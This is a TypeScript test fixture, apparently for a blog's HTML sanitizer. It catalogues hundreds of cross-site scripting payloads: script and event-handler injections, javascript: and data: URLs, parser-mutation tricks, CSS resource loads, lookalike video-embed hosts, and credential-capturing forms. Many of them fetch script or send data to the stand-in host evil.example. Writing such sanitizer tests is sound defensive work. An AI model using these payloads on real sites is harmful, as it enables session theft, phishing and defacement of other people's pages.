/**
 * What an attacker with an editor's session, or a stolen copy of the database, would store as a post's body. What
 * runs sets `top.__hit`; what loads asks evil.example, or any other host that is not ours. /missing.gif is answered
 * with what is not a picture, so error handlers would run.
 */

import { hostileBlocks } from './hostile-blocks'
import { hostileTables } from './hostile-tables'

export interface HostileBody {
  name: string
  html: string
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const svgWithScript = '<svg xmlns="http://www.w3.org/2000/svg" onload="top.__hit=1"/>'
const page = '<script>top.__hit=1</script>'
const image = '<img src=/missing.gif onerror=top.__hit=1>'
const times = (count: number, text: string): string => text.repeat(count)
const inEntities = (text: string, write: (code: number) => string): string =>
  [...text].map(letter => write(letter.codePointAt(0) ?? 0)).join('')
const link = (address: string): string => `<p><a href="${address}">read on</a></p>`
const frame = (address: string): string => `<iframe src="${address}"></iframe>`

const scripts: Record<string, string> = {
  script: page,
  'script of another host': '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'script without protocol': '<script src="//evil.example/x.js"></script>',
  'script as a module': '<script type="module">import "https://evil.example/x.js"; top.__hit=1</script>',
  'script with a slash for a space': '<script/src="https://evil.example/x.js"/defer></script/>',
  'script from a data address': '<script src="data:text/javascript,top.__hit=1"></script>',
  'script inside the word script': '<scr<script>ipt>top.__hit=1</scr</script>ipt>',
  'script left open': '<p>a</p><script>top.__hit=1',
  'script end tag with attributes': `<script>1</script x="<script>">${image}`,
  'script hidden in a comment of a script': '<script><!--<script></script>top.__hit=1//--></script>',
  'script with a byte order mark': '\uFEFF<script\u00A0>top.__hit=1</script>',
  'script of XML': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">top.__hit=1</x:script>',
  'script of VBScript': '<script language="VBScript">top.__hit=1</script>',
  'script that is a rule of speculation':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
  'import map': '<script type="importmap">{"imports":{"a":"https://evil.example/a.js"}}</script>',
  'script in entities': '&lt;script&gt;top.__hit=1&lt;/script&gt;',
  'script in entities twice': '&amp;lt;script&amp;gt;top.__hit=1&amp;lt;/script&amp;gt;',
  'script in CDATA': `<![CDATA[${page}]]>`,
  'script in a processing instruction': `<?xml version="1.0"?><?php echo 1 ?><?x ${page} ?>`,
  'script in wide letters': '\uFF1Cscript\uFF1Etop.__hit=1\uFF1C/script\uFF1E',
  'script in overlong bytes': '\u00C0\u00BCscript\u00C0\u00BEtop.__hit=1\u00C0\u00BC/script\u00C0\u00BE',
  'script in UTF-7': '+ADw-script+AD4-top.__hit=1+ADw-/script+AD4-',
  'script with a long s': '<\u017Fcript>top.__hit=1</\u017Fcript><\u017Fvg onload=top.__hit=1>',
  'script with NUL': '<p>\u0000<script\u0000>top.__hit=1</script></p>',
  'script with half a character': '<p>\uD800<script>top.__hit=1</script></p>',
}

const handlers: Record<string, string> = {
  'handler of a failed picture': image,
  'handler in mixed case': '<img src="/missing.gif" OnErRoR="top.__hit=1">',
  'handler after slashes': '<img/src="/missing.gif"/onerror=top.__hit=1>',
  'handler after backquotes': '<img src=`/missing.gif`onerror=top.__hit=1>',
  'handler after a form feed': '<img src=/missing.gif\fonerror=top.__hit=1>',
  'handler after a vertical tab': '<img src=/missing.gif \vonerror=top.__hit=1 onerror=top.__hit=1>',
  'handler in entities': `<img src=/missing.gif onerror="${inEntities('top.__hit=1', code => `&#${code};`)}">`,
  'handler after an open quote': `<img """>${image}">`,
  'handler with a quote in its name': `<img src=/missing.gif "onerror=top.__hit=1 'onerror=top.__hit=1 onerror=top.__hit=1>`,
  'handler in an alternative text': '<img alt="&quot; onerror=top.__hit=1 x=&quot;" src=/missing.gif>',
  'handler in an unquoted address': '<img src=/missing.gif?&quot;&#32;onerror=top.__hit=1&#32;x=&quot;>',
  'handler in a link': '<a href="https://ok.example/?q=&quot;onmouseover=top.__hit=1&quot;">a</a>',
  'handler of a link':
    '<a href="https://ok.example" onclick="top.__hit=1" style="position:fixed;inset:0">a</a>',
  'handlers of a paragraph':
    '<p onmouseover="top.__hit=1" onpointerenter="top.__hit=1" onwheel="top.__hit=1">a</p>',
  'handler of focus, focused at once': '<p autofocus tabindex=1 onfocus=top.__hit=1>a</p>',
  'handler of focus in a field':
    '<input autofocus onfocus=top.__hit=1><select autofocus onfocus=top.__hit=1></select>',
  'handler of an animation':
    '<style>@keyframes x{}</style><p style="animation-name:x;animation-duration:1s" onanimationstart="top.__hit=1">a</p>',
  'handler of a transition': '<p style="transition:color 1ms" ontransitionend="top.__hit=1">a</p>',
  'handler of opened details': '<details open ontoggle=top.__hit=1>x</details>',
  'handler of a popover':
    '<button popovertarget=x>a</button><p popover id=x onbeforetoggle=top.__hit=1 ontoggle=top.__hit=1>b</p>',
  'handler of hidden text that is found': '<p hidden="until-found" onbeforematch=top.__hit=1>a</p>',
  'handler of a snapped scroller': '<p onscrollsnapchange=top.__hit=1 style="overflow:auto">a</p>',
  'handler of a marquee': '<marquee onstart=top.__hit=1 loop=1 width=0>a</marquee>',
  'handler of failed media':
    '<video src=x onerror=top.__hit=1></video><audio src=x onerror=top.__hit=1></audio>',
  'handler of a failed source': '<video><source src=x onerror=top.__hit=1></video>',
  'handler of the body':
    '<body onload=top.__hit=1 onpageshow=top.__hit=1 onhashchange=top.__hit=1><p>a</p></body>',
  'handler of a frame':
    '<iframe src="https://www.youtube.com/embed/abcdefghijk" onload="top.__hit=1"></iframe>',
  'handler of an unknown element':
    '<custom-element onconnected=top.__hit=1 onclick=top.__hit=1>a</custom-element>',
  'handler of a list item':
    '<ol><li data-list="bullet" oncopy="top.__hit=1" onclick="top.__hit=1">a</li></ol>',
  'handler of a format':
    '<p><strong onclick="top.__hit=1">a</strong><span onkeydown=top.__hit=1>b</span></p>',
  'handler of an image that loads': '<img src="/favicon.svg" onload="top.__hit=1">',
  'handler that is named twice': '<img src=/missing.gif onerror onerror=top.__hit=1>',
}

const addresses: Record<string, string> = {
  'javascript:': link('javascript:top.__hit=1'),
  'javascript: in mixed case': link('JaVaScRiPt:top.__hit=1'),
  'javascript: after a space': link(' javascript:top.__hit=1'),
  'javascript: with a line end': link('java\nscript:top.__hit=1'),
  'javascript: with a carriage return': link('java\rscript:top.__hit=1'),
  'javascript: with a tab': link('java\tscript:top.__hit=1'),
  'javascript: with a line end as an entity': link('java&#x0A;script:top.__hit=1'),
  'javascript: with named entities': link('java&Tab;script&colon;top.__hit=1'),
  'javascript: in decimal entities': link(inEntities('javascript:top.__hit=1', code => `&#${code};`)),
  'javascript: in entities without semicolons': link(
    inEntities('javascript:top.__hit=1', code => `&#${String(code).padStart(7, '0')}`),
  ),
  'javascript: in hexadecimal entities': link(
    inEntities('javascript:top.__hit=1', code => `&#X${code.toString(16)};`),
  ),
  'javascript: after a control character': link('\u0001javascript:top.__hit=1'),
  'javascript: after many control characters': link('\u0008\u000e\u001f javascript:top.__hit=1'),
  'javascript: after an entity of NUL': link('&#0;javascript:top.__hit=1'),
  'javascript: with an entity of NUL': link('java&#0;script:top.__hit=1'),
  'javascript: with a comment': link('java<!-- -->script:top.__hit=1'),
  'javascript: after wide space': link('\u3000javascript:top.__hit=1'),
  'javascript: with a soft hyphen': link('java\u00adscript:top.__hit=1'),
  'javascript: with a dotless i': link('javascr\u0131pt:top.__hit=1'),
  'javascript: as a host': link('javascript://ok.example/%0Atop.__hit=1'),
  'javascript: after view-source:': link('view-source:javascript:top.__hit=1'),
  'javascript: after feed:': link('feed:javascript:top.__hit=1'),
  'javascript: in a picture': '<img src="javascript:top.__hit=1">',
  'javascript: in a picture of no known address':
    '<img dynsrc="javascript:top.__hit=1" lowsrc="javascript:top.__hit=1">',
  'javascript: in a frame': frame('javascript:top.__hit=1'),
  'javascript: in XLink': '<svg><a xlink:href="javascript:top.__hit=1"><text y=20>a</text></a></svg>',
  'javascript: in MathML':
    '<math href="javascript:top.__hit=1"><mi xlink:href="javascript:top.__hit=1">a</mi></math>',
  'javascript: in a quotation': '<blockquote cite="javascript:top.__hit=1">a</blockquote>',
  'javascript: in a map':
    '<map name=m><area shape=default href="javascript:top.__hit=1"></map><img usemap=#m src=/favicon.svg>',
  'javascript: in the base': '<base href="javascript:top.__hit=1//"><a href="#">a</a>',
  'vbscript:': link('vbscript:msgbox(1)'),
  'livescript:': link('livescript:top.__hit=1'),
  'data: page in a link': link(`data:text/html;base64,${base64(page)}`),
  'data: with a tab in a link': link('da\tta:text/html,<script>top.__hit=1</script>'),
  'data: page in a frame': frame(`data:text/html;base64,${base64(page)}`),
  'data: page in a picture': '<img src="data:text/html,<script>top.__hit=1</script>">',
  'data: drawing in a picture': `<img src="data:image/svg+xml;base64,${base64(svgWithScript)}">`,
  'data: drawing in capitals': '<img src="DATA:IMAGE/SVG+XML,<svg onload=top.__hit=1>">',
  'data: drawing after a space': `<img src=" data:image/svg+xml;base64,${base64(svgWithScript)}">`,
  'data: drawing with a tab': `<img src="da&Tab;ta:image/svg+xml;base64,${base64(svgWithScript)}">`,
  'data: drawing after a control character': `<img src="&#1;data:image/svg+xml;base64,${base64(svgWithScript)}">`,
  'data: drawing that claims to be a bitmap': '<img src="data:image/png,<svg onload=top.__hit=1>">',
  'blob:': link('blob:https://evil.example/1'),
  'file:': link('file:///etc/passwd'),
  'filesystem:': link('filesystem:https://evil.example/x'),
  'intent:': link('intent://evil.example/#Intent;scheme=https;end'),
  'no protocol in a link': link('//evil.example'),
  'no protocol in a picture': '<img src="//evil.example/pixel.gif">',
  'no protocol, with a backslash': '<img src="/\\evil.example/pixel.gif">',
  'no protocol, with backslashes': '<img src="\\\\evil.example/pixel.gif">',
  'no protocol, with a tab between the slashes': '<img src="/&Tab;/evil.example/pixel.gif">',
  'no protocol, after a line end': '<img src="&NewLine;//evil.example/pixel.gif">',
  'no protocol, with a tab and a backslash': link('/\t\\evil.example'),
}

const links: Record<string, string> = {
  'link to a new window with its opener': '<a href="https://evil.example" target="_blank" rel="opener">a</a>',
  'link with a tab in its protocol': '<a href="h&Tab;ttps://evil.example" target="_blank" rel="opener">a</a>',
  'link after a space': '<a href=" https://evil.example" target="_blank" rel="opener">a</a>',
  'link after a control character': '<a href="&#2;https://evil.example" target="_blank" rel="opener">a</a>',
  'link with a line end in its protocol':
    '<a href="https&NewLine;://evil.example" target="_top" rel="opener">a</a>',
  'link without slashes': '<a href="https:evil.example" target="_blank" rel="opener">a</a>',
  'link with backslashes': '<a href="https:\\\\evil.example" target="_blank" rel="opener">a</a>',
  'link in capitals': '<a href="HTTPS://EVIL.EXAMPLE" target="_parent" rel="OPENER">a</a>',
  'link into a named frame': '<a href="https://evil.example" target="top" rel="">a</a>',
  'link with a target that holds markup': '<a href="https://evil.example" target="<\n_blank">a</a>',
  'link that tells of its clicks': '<a href="/blog" ping="https://evil.example/ping">a</a>',
  'link that downloads': '<a href="/blog" download="invoice.exe" referrerpolicy="unsafe-url">a</a>',
  'link that reports':
    '<a href="/blog" attributionsrc="https://evil.example/a">a</a><img attributionsrc="https://evil.example/b" src=/favicon.svg>',
  'link that poses as a video':
    '<a class="video-plate" data-video="https://evil.example/player" href="/blog">a</a>',
  'link in a link': '<a href="/blog">a<a href="https://evil.example" target=_blank>b</a></a>',
}

const loading: Record<string, string> = {
  'picture set': '<img srcset="https://evil.example/a 1x" src="/missing.gif">',
  'picture set alone': '<img srcset="https://evil.example/a 1x, //evil.example/b 2x">',
  'picture with sources':
    '<picture><source srcset="https://evil.example/a"><img src="/missing.gif"></picture>',
  'picture by its old name':
    '<image src="/missing.gif" onerror=top.__hit=1><image href="https://evil.example/a.png">',
  'poster of a video':
    '<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4" autoplay></video>',
  'sound with subtitles':
    '<audio autoplay src="https://evil.example/a.ogg"><track default src="https://evil.example/a.vtt"></audio>',
  'background of the body': '<body background="https://evil.example/a.png">',
  'background of a table':
    '<table background="https://evil.example/a.png"><td background="https://evil.example/b.png">a</table>',
  'style sheet': '<link rel=stylesheet href=https://evil.example/x.css>',
  'style sheet in a style':
    '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/a)}</style>',
  'style sheet from data':
    '<link rel=stylesheet href="data:text/css,body{background:url(https://evil.example/a)}">',
  'links that prepare':
    '<link rel=preload as=image href=https://evil.example/a><link rel=prefetch href=https://evil.example/b><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>',
  'links that import':
    '<link rel=import href=https://evil.example/x.html><link rel=modulepreload href=https://evil.example/x.js>',
  'links that change the page':
    '<link rel=icon href=https://evil.example/i.png><link rel=manifest href=https://evil.example/m.json>',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'refresh to data': `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(page)}">`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri https://evil.example/r">${image}`,
  cookie: '<meta http-equiv="Set-Cookie" content="qq=1"><meta name=referrer content=unsafe-url>',
  base: '<base href="https://evil.example/"><img src="missing.gif">',
  'base of windows': '<base target="_blank"><a href="/blog">a</a>',
  object: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'object of a page': `<object data="data:text/html;base64,${base64(page)}" type="text/html"></object>`,
  'object with a parameter':
    '<object type="application/x-shockwave-flash"><param name="movie" value="https://evil.example/x.swf"></object>',
  'embedded drawing': `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(svgWithScript)}">`,
  applet: '<applet code="x.class" archive="https://evil.example/x.jar"></applet>',
  'old frames': '<frameset onload=top.__hit=1><frame src="https://evil.example/"></frameset>',
  layer: '<layer src="https://evil.example/x.js"></layer><ilayer src="https://evil.example/x.js"></ilayer>',
  portal:
    '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  'XML island': '<xml src="https://evil.example/x.xml" id=i></xml><bgsound src="https://evil.example/a.mid">',
  'element with a name of its own': '<p is="x-y">a</p><x-y src="https://evil.example/"></x-y>',
  'declared shadow': `<div><template shadowrootmode="open">${image}<style>@import "https://evil.example/x"</style></template></div>`,
  'old cache manifest': '<html manifest="https://evil.example/m"><p>a</p></html>',
}

const frames: Record<string, string> = {
  'frame of another host': frame('https://evil.example/embed/abcdefghijk'),
  'frame with a page in it': `<iframe srcdoc="${page.replaceAll('"', '&quot;')}"></iframe>`,
  'frame with a page in it, and a video host':
    '<iframe src="https://www.youtube.com/embed/abcdefghijk" srcdoc="<script>top.__hit=1</script>"></iframe>',
  'frame of a host that begins alike': frame('https://www.youtube.com.evil.example/embed/abcdefghijk'),
  'frame of a host that ends alike': frame('https://evilwww.youtube.com/embed/abcdefghijk'),
  'frame of a host with a hyphen': frame('https://www-youtube.com/embed/abcdefghijk'),
  'frame with the video host as a user': frame('https://www.youtube.com@evil.example/embed/abcdefghijk'),
  'frame with the video host as a password': frame(
    'https://x:www.youtube.com@evil.example/embed/abcdefghijk',
  ),
  'frame with a user at the video host': frame('https://evil@www.youtube.com/embed/abcdefghijk'),
  'frame with a backslash before the user': frame('https://evil.example\\@www.youtube.com/embed/abcdefghijk'),
  'frame with a backslash after the host': frame('https://www.youtube.com\\.evil.example/embed/abcdefghijk'),
  'frame with a fragment before the host': frame('https://evil.example#@www.youtube.com/embed/abcdefghijk'),
  'frame with a query before the host': frame('https://evil.example?@www.youtube.com/embed/abcdefghijk'),
  'frame at a port of the video host': frame('https://www.youtube.com:8443/embed/abcdefghijk'),
  'frame without encryption': frame('http://www.youtube.com/embed/abcdefghijk'),
  'frame without protocol': frame('//www.youtube.com/embed/abcdefghijk'),
  'frame with three slashes': frame('https:///evil.example/embed/abcdefghijk'),
  'frame with a tab in its protocol': frame('ht&Tab;tps://evil.example/embed/abcdefghijk'),
  'frame with a Cyrillic letter': frame('https://www.y\u043eutube.com/embed/abcdefghijk'),
  'frame with wide letters': frame('https://www.youtube.com\uFF0Eevil.example/embed/abcdefghijk'),
  'frame with a full stop in ideographs': frame(
    'https://www.youtube.com\u3002evil.example/embed/abcdefghijk',
  ),
  'frame of a redirect at the video host': frame('https://www.youtube.com/redirect?q=https://evil.example'),
  'frame that climbs out of the embeds': frame(
    'https://www.youtube.com/embed/../redirect?q=https://evil.example',
  ),
  'frame that climbs out with entities': frame(
    'https://www.youtube.com/embed/%2e%2e/redirect?q=https://evil.example',
  ),
  'frame with a quote in its video': frame(
    'https://www.youtube.com/embed/abcdefghijk&quot;onload=&quot;top.__hit=1',
  ),
  'frame of a number that is none': frame('https://player.vimeo.com/video/1;evil'),
  'frame of our own page': frame('/blog'),
  'frame that may do anything':
    '<iframe allow="camera *; microphone *" csp="" src="https://player.vimeo.com/video/76979871" name="top"></iframe>',
  'frame left open': `<iframe src="https://www.youtube.com/embed/abcdefghijk">${image}`,
  'frame with markup in it': `<iframe src="https://www.youtube.com/embed/abcdefghijk"><p title="</iframe>${image}">a &amp; b</p></iframe>`,
  'frame with text in it':
    '<iframe src="https://www.youtube.com/embed/abcdefghijk">&lt;/iframe&gt;&lt;img src=/missing.gif onerror=top.__hit=1&gt;</iframe>',
}

const mutations: Record<string, string> = {
  'drawing that loads': '<svg onload=top.__hit=1><circle r=1></svg>',
  'drawing with a script': '<svg><script>top.__hit=1</script></svg>',
  'drawing with a script in entities': '<svg><script>top.__hit&#61;1</script></svg>',
  'drawing with a style': `<svg><style>${image}</style></svg>`,
  'drawing with a paragraph and a style': `<svg></p><style><a id="</style>${image}">`,
  'drawing with foreign markup': `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${image}</body></foreignObject></svg>`,
  'drawing with a title': `<svg><title><style><img title="</style>${image}"></style></title></svg>`,
  'drawing with a description': `<svg><desc><noscript><p title="</noscript>${image}"></noscript></desc></svg>`,
  'drawing with a text field': `<svg><textarea>${image}</textarea></svg>`,
  'drawing with an animation':
    '<svg><animate onbegin=top.__hit=1 attributeName=x dur=1s></animate><a><set attributeName=href to="javascript:top.__hit=1"/><text y=9>a</text></a></svg>',
  'drawing with a picture':
    '<svg><image href="https://evil.example/a.png" xlink:href="https://evil.example/b.png"/></svg>',
  'drawing that uses another': '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  'drawing with CDATA': `<svg><![CDATA[><${image}]]></svg>`,
  'drawing that a break ends': `<svg><p><style><!--</style>${image}--></style></p></svg>`,
  'MathML with a glyph': `<math><mtext><table><mglyph><style><!--</style><img title="-->${image}">`,
  'MathML with annotation': `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  'MathML with an action':
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:top.__hit=1">a</maction></math>',
  'MathML in a form in a form': `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  'MathML with a malignmark': `<math><mi><table><malignmark><style><!--</style><img title="-->${image}">`,
  'no script': `<noscript><p title="</noscript>${image}"></noscript>`,
  'no script with a style': `<noscript><style></noscript>${image}</style>`,
  'no frames': `<noframes><p title="</noframes>${image}"></noframes>`,
  'no embed': `<noembed><p title="</noembed>${image}"></noembed>`,
  template: `<template>${page}${image}</template>`,
  'template in a drawing': `<svg><template><style>${image}</style></template></svg>`,
  'text field': `<textarea>${page}</textarea>`,
  'text field that ends early': `<textarea><p title="</textarea>${image}"></textarea>`,
  'text field that is left open': `<p>a</p><textarea>${image}`,
  title: `<title><p title="</title>${image}"></title>`,
  style: `<style><p title="</style>${image}"></style>`,
  'style that is left open': '<p>a</p><style>body{display:none}.prose{position:fixed}',
  xmp: `<xmp>${page}</xmp><xmp><p title="</xmp>${image}"></xmp>`,
  'plain text': `<plaintext>${page}`,
  listing: `<listing>&lt;img src=/missing.gif onerror=top.__hit=1&gt;</listing>`,
  'comment that ends twice': `<!--<img src="-->${image}//">`,
  'comment that ends with an exclamation mark': `<!--a--!>${image}-->`,
  'comment that ends at once': `<!-->${image}--><!--->${image}-->`,
  'comment that is none': `<!${image}><!a ${image}>`,
  'comment of old browsers': `<!--[if gte IE 4]>${page}<![endif]-->`,
  'end tag that is a comment': `</ ${image}></p title="">${image}">`,
  'table that fosters': `<table><a href="/blog"><tr><td></a>${image}<table><style><!--</style></table></table>`,
  'table with a picture in no cell': `<table>${image}<tr><td>a</td></tr></table>`,
  selection: `<select><option><style></option></select>${image}</style>`,
  'selection with a drawing': `<select><svg><style></select>${image}`,
  'selection of keys': `<keygen autofocus onfocus=top.__hit=1><isindex action="javascript:top.__hit=1" type=image>`,
  'formats that cross': '<b><i class="site-footer">a</b><a href="/blog">b</i><p>c</a></p>',
  'paragraphs that cross': '<p><p><p></b></i></p>',
  'end tags alone': '</p></ol></div></article></main></body></html>',
  'end of the body and more': `</div></div></article></main>${image}<footer class="site-footer">a</footer>`,
  'tag inside an attribute': `<p title="&quot;>${page}">a</p><p class='"><img src=/missing.gif onerror=top.__hit=1>'>b</p>`,
  'tag that never ends': '<p>a</p><img src=/missing.gif onerror=top.__hit=1 ',
  'tag that only begins': '<',
  'tag with a name alone': '<a',
  'attribute that never ends': '<a href="',
  'attribute that never ends, with more': `<p>a</p><a title="${page}`,
  'entity that never ends':
    '<p>&#x3C;script&#x3E top.__hit=1 &lt;/script &ltimg src=x onerror=top.__hit=1&gt',
  'entity beyond Unicode': `<p>&#x110000;&#xD800;&#99999999999;</p><a href="&#xD800;javascript:top.__hit=1">a</a>`,
  'doubled angle brackets': `<<script>top.__hit=1//<</script><<img src=/missing.gif onerror=top.__hit=1>>`,
  doctype: `<!DOCTYPE html [<!ENTITY x "${page}">]>&x;`,
}

const styles: Record<string, string> = {
  'style with an address': '<p style="background:url(https://evil.example/x)">a</p>',
  'style with an expression': '<p style="color:expression(top.__hit=1)">a</p>',
  'style over the page': '<p style="color:red;position:fixed;top:0;left:0;width:100vw;height:100vh">a</p>',
  'style with an address for a colour': '<p style="color: url(javascript:top.__hit=1)">a</p>',
  'style with an address for a background': '<p style="background-color:url(https://evil.example/x)">a</p>',
  'style with an import': `<p style="@import 'https://evil.example/x.css';color:red">a</p>`,
  'style with a behaviour':
    '<p style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#a)">a</p>',
  'style with escapes': '<p style="c\\6flor:red;\\62 ackground:\\75rl(https://evil.example/x)">a</p>',
  'style with a comment':
    '<p style="color:red/**/;back/**/ground:url(https://evil.example/x);posi/* */tion:fixed">a</p>',
  'style that ends its rule': '<p style="color:red}body{background:url(https://evil.example/x)">a</p>',
  'style with a nested rule': '<p style="color:red;&:hover{background:url(https://evil.example/x)}">a</p>',
  'style with a variable':
    '<p style="--color-ink:red;color:var(--color-glass);background-color:var(--x,url(https://evil.example/x))">a</p>',
  'style with lists and borders':
    '<ol style="list-style:url(https://evil.example/x)"><li style="border-image:url(https://evil.example/y) 1">a</li></ol>',
  'style with a cursor and a mask':
    '<p style="cursor:url(https://evil.example/c),auto;mask:url(https://evil.example/m)">a</p>',
  'style with an image set':
    '<p style="background-image:image-set(url(https://evil.example/x) 1x);content:url(https://evil.example/y)">a</p>',
  'style with important':
    '<p style="color:red!important;display:block!important;z-index:2147483647!important">a</p>',
  'style in quotes': `<p style='color:red;"position:fixed'>a</p><p style="color:&quot;>${page}">b</p>`,
  'style with a NUL entity': '<p style="color:red;pos&#0;ition:fixed">a</p>',
  'style with capitals': '<p STYLE="COLOR:RED;POSITION:FIXED;INSET:0">a</p>',
  'style of a picture':
    '<img src=/favicon.svg style="position:fixed;inset:0;width:100vw;height:100vh" width=99999 height=99999>',
  'style of a wide font': '<p style="font:italic 900px x;letter-spacing:9999px;transform:scale(99)">a</p>',
  'style by an old element': '<font size=99 color="red" face="x">a</font><center><blink>b</blink></center>',
  'class of the page': '<p class="skip-link site-header">a</p>',
  'class of a toast': '<ol class="site-menu"><li class="toast" data-list="\'><script>">a</li></ol>',
  'class of a seal on a picture': '<img class="cta-seal post-cover" src="/favicon.svg">',
  'class beside an allowed one':
    '<p class="ql-align-center fixed inset-0 post-head ql-align-center\u00a0toast">a</p>',
  'class with line ends': '<p class="\n\tql-indent-1\fcall-to-action\rsite-header">a</p>',
  'class of the editor': '<p class="ql-editor ql-container ql-tooltip ql-hidden ql-clipboard">a</p>',
  'class of an indent beyond eight': '<p class="ql-indent-9 ql-indent-99 ql-size-huge">a</p>',
  'class of a frame elsewhere': '<p class="ql-video video-plate prose-opening prose-picture">a</p>',
  'class on every format':
    '<b class="toast"><i class="toast"><ul class="toast"><br class="toast"></ul></i></b>',
}

const forms: Record<string, string> = {
  form: '<form action="https://evil.example"><input name=p type=password><button>Sign in</button></form>',
  'form with an action on its button':
    '<form><button formaction="javascript:top.__hit=1" autofocus>a</button><input type=submit formaction=https://evil.example></form>',
  'form with a picture for a button':
    '<form><input type=image src="https://evil.example/a.png" formaction="javascript:top.__hit=1"></form>',
  'form of the page, from afar':
    '<button form="x" type=submit>a</button><form id="x" action="https://evil.example"></form>',
  dialog: '<dialog open class="toast"><form method=dialog><button>a</button></form></dialog>',
  'button that commands': '<button commandfor=top command=show-modal onclick=top.__hit=1>a</button>',
  'text that readers may change': '<span contenteditable="true" data-app data-video="x">a</span>',
  'text that readers may change, plainly':
    '<span contenteditable="plaintext-only">a</span><p contenteditable>b</p>',
  'text that readers may change, empty': '<span contenteditable="">a</span><span contenteditable>b</span>',
  'controls of the app': '<p data-app data-account data-video="https://evil.example" inert>a</p>',
  'keys of the page': '<a accesskey="s" tabindex="1" href="/blog" draggable=true>a</a>',
  'words for screen readers':
    '<p role="alert" aria-live="assertive" aria-label="Sign in again" aria-hidden="true" lang="x">a</p>',
  'direction of the page': '<p dir="rtl" translate="no" spellcheck="true" hidden>a</p><bdo dir=rtl>b</bdo>',
  'ids of the page':
    '<p id="content" name="body">a</p><h1 id="post-title">b</h1><a id=site-menu name=site-menu href="#">c</a>',
  'names of the document':
    '<img name="body" src=/favicon.svg><img name=cookie src=/favicon.svg><a id="__reactRouterContext" href="/blog">a</a>',
  'names of windows':
    '<a id=top></a><a id=trustedTypes name=createPolicy href="/blog">a</a><iframe name=parent src="https://player.vimeo.com/video/76979871"></iframe>',
  'names of forms': '<form id=document><input name=attributes><input name=getElementById></form>',
  'names of prototypes':
    '<p id="__proto__" class="__proto__ constructor toString" constructor="a" __proto__="b">a</p>',
  'elements named like prototypes':
    '<constructor>a</constructor><__proto__>b</__proto__><tostring onclick=top.__hit=1>c</tostring>',
  microdata:
    '<p itemscope itemtype="https://evil.example" itemprop=url slot=a part=b exportparts=c nonce=d>a</p>',
}

const sizes: Record<string, string> = {
  'formats nested without end': `${times(5000, '<b>')}deep${times(5000, '</b>')}`,
  'formats nested and left open': `${times(5000, '<b><i>')}${image}`,
  'quotations nested without end': `${times(2000, '<blockquote>')}${image}`,
  'lists nested without end': `${times(2000, '<ol><li data-list="bullet">')}${image}`,
  'unknown elements nested without end': `${times(5000, '<x>')}${image}${times(5000, '</x>')}`,
  'drawings nested without end': `${times(1000, '<svg><foreignObject>')}${image}`,
  'many attributes': `<p ${Array.from({ length: 3000 }, (_, index) => `a${index}=1`).join(' ')} onclick=top.__hit=1>a</p>`,
  'a long attribute': `<p title="${times(60_000, 'a')}" onclick=top.__hit=1>a</p>`,
  'many open tags': `<p>a</p>${times(20_000, '<')}`,
  'many entities': `<p>${times(10_000, '&lt;')}script&gt;top.__hit=1</p>`,
  'a style of many rules': `<p style="${times(5000, 'color:red;')}position:fixed">a</p>`,
  'directions that turn round': '<p>\u202Etpircs\u202C\u2066<script>top.__hit=1</script>\u2069</p>',
  'marks that pile up': `<p>a${times(500, '\u0300')}<script>top.__hit=1</script></p>`,
  'line ends of Unicode':
    '<p>\u2028<script>top.__hit=1</script>\u2029</p><a href="java\u2028script:top.__hit=1">a</a>',
}

const groups: Record<string, string>[] = [
  scripts,
  handlers,
  addresses,
  links,
  loading,
  frames,
  mutations,
  styles,
  forms,
  sizes,
  hostileTables,
  hostileBlocks,
]

export const hostileBodies: readonly HostileBody[] = groups.flatMap(group =>
  Object.entries(group).map(([name, html]) => ({ name, html })),
)

/** Cover addresses that must be refused. */
export const hostileImageUrls: readonly string[] = [
  'javascript:top.__hit=1',
  ' JavaScript:top.__hit=1',
  'java\tscript:top.__hit=1',
  'vbscript:top.__hit=1',
  `data:image/svg+xml;base64,${base64(svgWithScript)}`,
  'data:text/html,<script>top.__hit=1</script>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'ftp://evil.example/a.png',
  '//evil.example/a.png',
  '/\\evil.example/a.png',
  '\\\\evil.example\\a.png',
  '/\t/evil.example/a.png',
  '/\n/evil.example/a.png',
  '/\t\\evil.example/a.png',
  ' //evil.example/a.png',
  'https:',
  'https://',
  '/favicon.svg\u0000',
]

/** Cover addresses that are good, and try to leave their attribute. */
export const quotedImageUrls: readonly string[] = [
  '/favicon.svg?" onload="top.__hit=1',
  `/favicon.svg?' onload='top.__hit=1`,
  '/favicon.svg?"><script>top.__hit=1</script>',
  '/favicon.svg?&quot; onload=&quot;top.__hit=1',
  '/favicon.svg?,https://evil.example/b.png 2x',
  '/favicon.svg?);background:url(https://evil.example/a.png',
]

/** Titles, authors and excerpts that try to be markup, or to break out of the data embedded in the page. */
export const hostileWords: readonly string[] = [
  `</script>${image}`,
  `</title>${image}`,
  `"><img src=/missing.gif onerror=top.__hit=1>`,
  `<!--<script>top.__hit=1`,
  `{{constructor.constructor('top.__hit=1')()}}`,
  '\u2028</ScRiPt ><svg/onload=top.__hit=1>',
]
